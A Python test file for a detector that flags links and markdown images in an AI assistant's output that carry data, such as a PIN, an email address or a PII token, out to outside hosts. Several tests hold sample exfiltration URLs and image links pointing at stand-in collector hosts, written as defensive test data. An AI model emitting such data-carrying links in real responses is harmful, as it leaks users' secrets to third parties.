"""The detector of links that carry something away."""

from __future__ import annotations

from typing import Literal

import pytest

from filters.detector import DETECTORS, Detector, Window
from filters.folding import fold
from filters.model import Channel, Finding
from tests.filters.attack.leaks import harmless, leaks
from tests.filters.reading import Stream

EXFILTRATION = DETECTORS.build("exfiltration")
LEAKS = list(leaks())
HARMLESS = list(harmless())
ANSWER = Channel("response", "/text", "assistant")


def read(text: str, channel: Channel = ANSWER, detector: Detector = EXFILTRATION) -> tuple[Finding, ...]:
    return detector.read(Window(channel, "exfiltration", fold(text), 0, 0, final=True)).findings


def test_there_are_two_hundred() -> None:
    assert len(LEAKS) >= 200
    assert len({leak.how for leak in LEAKS}) == len(LEAKS)


@pytest.mark.parametrize("leak", LEAKS, ids=[leak.how for leak in LEAKS])
def test_every_leak_is_found_where_it_is(leak: object) -> None:
    assert isinstance(leak, tuple)
    text, address, _ = leak
    (finding,) = [one for one in read(text) if one.score >= 0.5]
    assert text[finding.span.start : finding.span.end] == address


def test_nearly_all_of_them_are_certain() -> None:
    sure = [leak for leak in LEAKS if max(one.score for one in read(leak.text)) >= 0.9]
    assert len(sure) >= 0.97 * len(LEAKS)


def test_none_of_what_is_written_every_day() -> None:
    assert len(HARMLESS) > 140
    assert [text for text in HARMLESS for one in read(text) if one.score >= 0.5] == []


@pytest.mark.parametrize(
    ("direction", "syntax", "where", "score"),
    [
        ("response", "plain", "link", 0.92),
        ("response", "json", "tool", 0.8),
        ("request", "plain", "link", 0.4),
    ],
)
def test_where_it_stands_and_who_says_it(
    direction: Literal["request", "response"], syntax: Literal["plain", "json"], where: str, score: float
) -> None:
    channel = Channel(direction, "/text", "assistant", syntax)
    (finding,) = read("https://collector.example/?x=my+pin+is+4821", channel)
    assert (finding.attrs["where"], finding.attrs["how"], finding.score) == (where, "secret", score)


def test_a_mail_address_in_a_link_is_weaker_than_in_an_image() -> None:
    address = "https://shop.example/form?mail=taro@mail.example"
    assert [one.score for text in (f"[x]({address})", f"![x]({address})") for one in read(text)] == [
        0.6,
        0.95,
    ]


def test_a_surrogate_in_an_image_would_be_put_back_for_somebody_else() -> None:
    (finding,) = read("![x](https://collector.example/?q=PII_EMAIL_1_K7)")
    assert (finding.attrs["how"], finding.score) == ("surrogate", 0.97)


def test_hosts_that_are_trusted() -> None:
    leak = "![x](https://img.ours.example/p?d=" + "bWVldCBtZSBvbiBmcmlkYXkgYXQgbm9vbg" + ")"
    ours = DETECTORS.build("exfiltration", {"hosts": ["*.ours.example"]})
    assert read(leak)
    assert read(leak, detector=ours) == ()
    chart = "![x](https://quickchart.io/chart?c=meet+me+on+friday+at+noon)"
    strict = DETECTORS.build("exfiltration", {"renderers": False})
    assert (len(read(chart)), len(read(chart, detector=strict))) == (0, 1)


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("see ht", "ht"),
        ("see http", "http"),
        ("see https://a.example/x?d=1", "https://a.example/x?d=1"),
        ("see https://a.example/x?d=1 ", ""),
        ("oath", ""),
        ("![x](/", "/"),
        ("a / b", ""),
    ],
)
def test_only_an_address_waits(text: str, held: str) -> None:
    stream = Stream(EXFILTRATION)
    stream.feed(text)
    assert text[len(text) - stream.held :] == held
